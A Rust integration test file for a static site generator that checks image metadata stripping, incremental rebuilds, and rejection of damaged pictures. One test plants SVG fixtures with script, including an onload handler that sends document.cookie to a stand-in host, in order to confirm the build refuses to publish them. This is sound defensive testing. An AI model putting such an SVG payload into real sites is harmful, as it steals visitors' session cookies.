//! Pictures through a real build (`samtal::build` into a folder): no published picture keeps
//! its EXIF (GPS) or XMP, GIF included; an SVG that could run script and a cut-off picture
//! are errors naming their files; a build encodes only the pictures the build before did not make.

mod common;

use common::{fixture_site, options, read_tree};
use std::fs;
use std::path::Path;

fn has(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn is_picture(path: &str) -> bool {
    [".jpg", ".png", ".webp", ".gif"].iter().any(|ext| path.ends_with(ext))
}

/// A 4 × 2 GIF of two frames carrying XMP with a GPS position and a comment, as phones'
/// and editors' GIFs do.
fn gif_with_xmp_and_a_comment() -> Vec<u8> {
    let mut plain = Vec::new();
    {
        let mut encoder = gif::Encoder::new(&mut plain, 4, 2, &[255, 0, 0, 0, 0, 255]).unwrap();
        encoder.set_repeat(gif::Repeat::Infinite).unwrap();
        for index in [0, 1] {
            encoder.write_frame(&gif::Frame::from_indexed_pixels(4, 2, vec![index; 8], None)).unwrap();
        }
    }
    let xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><exif:GPSLatitude>59,20N</exif:GPSLatitude></x:xmpmeta>";
    let mut blocks = [&[0x21, 0xFE, 5][..], b"Anna\0", &[0], &[0x21, 0xFF, 11], b"XMP DataXMP", xmp, &[1]].concat();
    blocks.extend((1..=255u8).rev());
    blocks.extend_from_slice(&[0, 0]);
    // After the header and the global colour table of two colours.
    [&plain[..19], &blocks, &plain[19..]].concat()
}

/// An animated WebP of two 2 × 2 frames with EXIF (a GPS position) and XMP chunks.
fn animated_webp_with_exif_and_xmp() -> Vec<u8> {
    let chunk = |id: &[u8], payload: &[u8]| {
        let pad: &[u8] = if payload.len() % 2 == 1 { &[0] } else { &[] };
        [id, &u32::try_from(payload.len()).unwrap().to_le_bytes(), payload, pad].concat()
    };
    let frame = |rgb: [u8; 3]| {
        let webp = webp::Encoder::from_rgb(&rgb.repeat(4), 2, 2).encode_lossless().to_vec();
        let size = u32::from_le_bytes(webp[16..20].try_into().unwrap()) as usize;
        let header = [0, 0, 0, 0, 0, 0, 1, 0, 0, 1, 0, 0, 100, 0, 0, 0];
        chunk(b"ANMF", &[&header[..], &chunk(b"VP8L", &webp[20..20 + size])].concat())
    };
    let exif = fs::read(common::repo().join("tests/sites/images/static/bilder/foto.jpg")).unwrap();
    let tiff_at = exif.windows(6).position(|w| w == b"Exif\0\0").unwrap() + 6;
    let tiff_len = usize::from(u16::from_be_bytes([exif[tiff_at - 8], exif[tiff_at - 7]])) - 8;
    let body = [
        &b"WEBP"[..],
        &chunk(b"VP8X", &[0x02 | 0x08 | 0x04, 0, 0, 0, 1, 0, 0, 1, 0, 0]),
        &chunk(b"ANIM", &[0; 6]),
        &frame([255, 0, 0]),
        &frame([0, 0, 255]),
        &chunk(b"EXIF", &exif[tiff_at..tiff_at + tiff_len]),
        &chunk(b"XMP ", b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>"),
    ]
    .concat();
    [&b"RIFF"[..], &u32::try_from(body.len()).unwrap().to_le_bytes(), &body].concat()
}

fn build_into(root: &Path, out: &Path) -> samtal::SiteBuild {
    samtal::build(&samtal::Options { output: Some(out.to_path_buf()), ..options(root) })
        .unwrap_or_else(|e| panic!("the build fails: {e:?}"))
}

#[test]
fn no_published_picture_keeps_exif_or_a_gps_position() {
    // Guards: EXIF (with its GPS position) is stripped from the copied original and from every variant.
    let site = fixture_site("images");
    let source = fs::read(site.path().join("static/bilder/foto.jpg")).unwrap();
    assert!(has(&source, b"Exif\0\0") && has(&source, b"MM\0\x2a"), "the fixture's photo carries EXIF with GPS");
    let out = site.path().join("ut");
    build_into(site.path(), &out);
    let pictures: Vec<(String, Vec<u8>)> = read_tree(&out).into_iter().filter(|(path, _)| is_picture(path)).collect();
    assert!(pictures.len() >= 10, "the originals, the variants and the share card: {}", pictures.len());
    // The original keeps one EXIF entry, its orientation (it is stored lying down), and no GPS.
    const ORIENTATION_ONLY: &[u8] = b"\xFF\xE1\0\x22Exif\0\0MM\0\x2a\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0";
    for (path, bytes) in &pictures {
        let kept = if path.ends_with("bilder/foto.jpg") { ORIENTATION_ONLY } else { b"" };
        let without = bytes
            .windows(kept.len().max(1))
            .position(|w| w == kept)
            .map_or(bytes.clone(), |at| [&bytes[..at], &bytes[at + kept.len()..]].concat());
        assert!(
            !has(&without, b"Exif") && !has(&without, b"MM\0\x2a") && !has(&without, b"II\x2a\0"),
            "{path} keeps EXIF"
        );
        assert!(!has(bytes, b"\x88\x25") && !has(bytes, b"\x25\x88"), "{path} keeps a GPS position");
    }
    let original = &pictures.iter().find(|(p, _)| p.ends_with("bilder/foto.jpg")).unwrap().1;
    assert!(has(original, ORIENTATION_ONLY), "the original still says which way is up");
    assert!(original.len() < source.len() && original.len() > source.len() - 300, "only the metadata went");
    let decoder = image::ImageReader::new(std::io::Cursor::new(original)).with_guessed_format().unwrap();
    let mut decoder = decoder.into_decoder().unwrap();
    let turned = image::ImageDecoder::orientation(&mut decoder).unwrap();
    assert_ne!(turned, image::metadata::Orientation::NoTransforms, "a browser shows the original upright");
}

#[test]
fn an_independent_exif_reader_finds_no_gps_exif_or_xmp_in_any_published_picture() {
    // Guards: checked with kamadak-exif, not with our own stripper's idea of the format: no
    // published picture has EXIF beyond the original's orientation, none GPS, none XMP.
    let site = fixture_site("images");
    let source = fs::read(site.path().join("static/bilder/foto.jpg")).unwrap();
    let read = |bytes: &[u8]| exif::Reader::new().read_from_container(&mut std::io::Cursor::new(bytes));
    let fields = read(&source).expect("the fixture's photo has EXIF");
    assert!(fields.fields().any(|f| f.tag.context() == exif::Context::Gps), "and a GPS position");
    // A moving GIF and a moving WebP, each with XMP (and the WebP with the photo's EXIF).
    let webp = animated_webp_with_exif_and_xmp();
    let webp_exif = read(&webp).expect("the moving WebP has EXIF");
    assert!(webp_exif.fields().any(|f| f.tag.context() == exif::Context::Gps), "with a GPS position");
    common::write_bytes(site.path(), "static/bilder/rorlig.webp", &webp);
    let gif = gif_with_xmp_and_a_comment();
    let decoder = gif::DecodeOptions::new().read_info(std::io::Cursor::new(&gif)).unwrap();
    assert!(decoder.xmp_metadata().is_some(), "the GIF has XMP");
    common::write_bytes(site.path(), "static/bilder/rorlig.gif", &gif);
    let out = site.path().join("ut");
    build_into(site.path(), &out);
    let pictures: Vec<(String, Vec<u8>)> = read_tree(&out).into_iter().filter(|(path, _)| is_picture(path)).collect();
    assert!(pictures.len() >= 12, "{} pictures", pictures.len());
    let published = |name: &str| &pictures.iter().find(|(p, _)| p.ends_with(name)).unwrap().1;
    let mut decoder = gif::DecodeOptions::new().read_info(std::io::Cursor::new(published("rorlig.gif"))).unwrap();
    assert_eq!(decoder.xmp_metadata(), None, "the published GIF has no XMP");
    let mut frames = 0;
    while decoder.read_next_frame().unwrap().is_some() {
        frames += 1;
    }
    assert_eq!(frames, 2, "and both its frames");
    use image::AnimationDecoder as _;
    let decoder = image::codecs::webp::WebPDecoder::new(std::io::Cursor::new(published("rorlig.webp"))).unwrap();
    assert_eq!(decoder.into_frames().collect_frames().unwrap().len(), 2, "the WebP still moves");
    for (path, bytes) in &pictures {
        match read(bytes) {
            Ok(exif) => {
                let tags: Vec<exif::Tag> = exif.fields().map(|f| f.tag).collect();
                // The photo's EXIF in the moving WebP says it lies down too: it keeps that.
                let turned = path.ends_with("bilder/foto.jpg") || path.ends_with("bilder/rorlig.webp");
                assert!(turned, "{path} keeps EXIF: {tags:?}");
                assert_eq!(tags, [exif::Tag::Orientation], "{path}: only which way is up");
            }
            Err(exif::Error::NotFound(_)) => {}
            // GIF holds no EXIF; its XMP is read with the gif crate above.
            Err(exif::Error::InvalidFormat(_)) if path.ends_with(".gif") => {}
            Err(e) => panic!("{path}: the reader fails: {e}"),
        }
        assert!(!has(bytes, b"http://ns.adobe.com/xap/") && !has(bytes, b"xmpmeta"), "{path} keeps XMP");
        assert!(!has(bytes, b"XMP DataXMP") && !has(bytes, b"Anna\0"), "{path} keeps XMP or a comment");
    }
}

#[test]
fn a_second_build_encodes_no_picture_again() {
    // Guards: variants are taken from the previous output by their content-hashed names; only a changed picture is encoded.
    let site = fixture_site("images");
    let out = site.path().join("ut");
    let first = build_into(site.path(), &out);
    assert_eq!(first.pictures_encoded, 8, "two pictures, two widths each, as WebP and in their own format");
    let files = read_tree(&out);

    let second = build_into(site.path(), &out);
    assert_eq!(second.pictures_encoded, 0, "nothing changed, nothing encoded");
    assert!(read_tree(&out) == files, "the same files as the first build");

    // Another diagram under the same name: only its four variants are encoded, under new names.
    let diagram = image::RgbImage::from_fn(640, 320, |x, _| image::Rgb([(x % 256) as u8, 80, 120]));
    let mut png = Vec::new();
    image::ImageEncoder::write_image(
        image::codecs::png::PngEncoder::new(&mut png),
        &diagram,
        640,
        320,
        image::ExtendedColorType::Rgb8,
    )
    .unwrap();
    fs::write(site.path().join("static/bilder/karta.png"), &png).unwrap();
    let third = build_into(site.path(), &out);
    assert_eq!(third.pictures_encoded, 4);
    let fresh_out = site.path().join("ny");
    build_into(site.path(), &fresh_out);
    assert!(read_tree(&out) == read_tree(&fresh_out), "a build reusing variants equals a fresh one");
}

#[test]
fn a_picture_as_an_attachment_is_listed_with_the_size_it_is_published_at() {
    // Guards: a picture is published without its metadata, so its listed size (page, open
    // data, feed enclosure) is the stripped file's, not the author's file's.
    let site = fixture_site("images");
    let meeting = site.path().join("content/meetings/2018-09-orebro.md");
    let text = fs::read_to_string(&meeting).unwrap();
    let text =
        text.replacen("---\n", "---\nattachments:\n  - title: Fotot i full storlek\n    file: /bilder/foto.jpg\n", 1);
    fs::write(&meeting, text).unwrap();
    let out = site.path().join("ut");
    build_into(site.path(), &out);
    let published = fs::metadata(out.join("bilder/foto.jpg")).unwrap().len();
    let source = fs::metadata(site.path().join("static/bilder/foto.jpg")).unwrap().len();
    assert!(published < source, "the fixture's photo carries metadata");
    let data = fs::read_to_string(out.join("data/meetings.json")).unwrap();
    assert!(
        data.contains(&format!("\"bytes\": {published}")) || data.contains(&format!("\"bytes\":{published}")),
        "{data}"
    );
}

#[test]
fn an_svg_that_could_run_script_is_an_error_at_its_line_and_never_published() {
    // Guards: an SVG in static/ or beside a meeting was copied as it was, so its script ran
    // for anyone who opened the picture by its address (on the site's own origin).
    let site = fixture_site("images");
    let root = site.path();
    let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\">\n  <rect width=\"9\" height=\"9\"\n        onload=\"fetch('//x.example/'+document.cookie)\"/>\n</svg>\n";
    common::write(root, "static/bilder/logga.svg", svg);
    let meeting = fs::read_to_string(root.join("content/meetings/2018-09-orebro.md")).unwrap();
    fs::remove_file(root.join("content/meetings/2018-09-orebro.md")).unwrap();
    common::write(root, "content/meetings/2018-09-orebro/index.md", &format!("{meeting}\n![Diagram](diagram.svg)\n"));
    let diagram = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    common::write(root, "content/meetings/2018-09-orebro/diagram.svg", diagram);
    // A gzipped SVG, which web servers send as an SVG: checked once unpacked.
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut packed, diagram.as_bytes()).unwrap();
    common::write_bytes(root, "static/bilder/ikon.svgz", &packed.finish().unwrap());
    let out = root.join("ut");
    let output = common::samtal().arg("--root").arg(root).args(["build", "--output"]).arg(&out).output().unwrap();
    let text = String::from_utf8_lossy(&output.stderr).to_string() + &String::from_utf8_lossy(&output.stdout);
    assert_eq!(output.status.code(), Some(1), "{text}");
    assert!(text.contains("static/bilder/logga.svg:3:9"), "the file, line and column: {text}");
    assert!(text.contains("SVG-bilden har attributet `onload`"), "{text}");
    assert!(text.contains("spara om bilden utan skript"), "and how to fix it: {text}");
    assert!(text.contains("content/meetings/2018-09-orebro/diagram.svg:1:"), "{text}");
    assert!(text.contains("SVG-bilden innehåller ett skript (`<script>`)"), "{text}");
    assert_eq!(text.matches("SVG-bilden innehåller ett skript (`<script>`)").count(), 2, "the .svgz too: {text}");
    assert!(text.contains("static/bilder/ikon.svgz"), "{text}");
    assert!(!out.exists(), "nothing published");
}

#[test]
fn a_cut_off_gif_or_png_is_an_error_naming_it_and_nothing_is_published() {
    // Guards: a GIF cut off in its transfer was published half (as far as it went).
    for (name, bytes) in [
        ("rorlig.gif", gif_with_xmp_and_a_comment()),
        ("karta.png", fs::read(common::repo().join("tests/sites/images/static/bilder/karta.png")).unwrap()),
    ] {
        let site = fixture_site("images");
        let cut = &bytes[..bytes.len() * 2 / 3];
        common::write_bytes(site.path(), &format!("static/bilder/{name}"), cut);
        let out = site.path().join("ut");
        let result = samtal::build(&samtal::Options { output: Some(out.clone()), ..options(site.path()) });
        let Err(samtal::Error::Invalid { diagnostics, .. }) = result else { panic!("{name}: the build must fail") };
        let named: Vec<&samtal::diagnostic::Diagnostic> =
            diagnostics.iter().filter(|d| d.file == format!("static/bilder/{name}")).collect();
        assert!(
            named.iter().any(|d| matches!(d.problem, samtal::diagnostic::Problem::PictureUnreadable { damaged: true })),
            "{name}: {diagnostics:?}"
        );
        assert!(!out.exists(), "{name}: nothing published");
    }
}
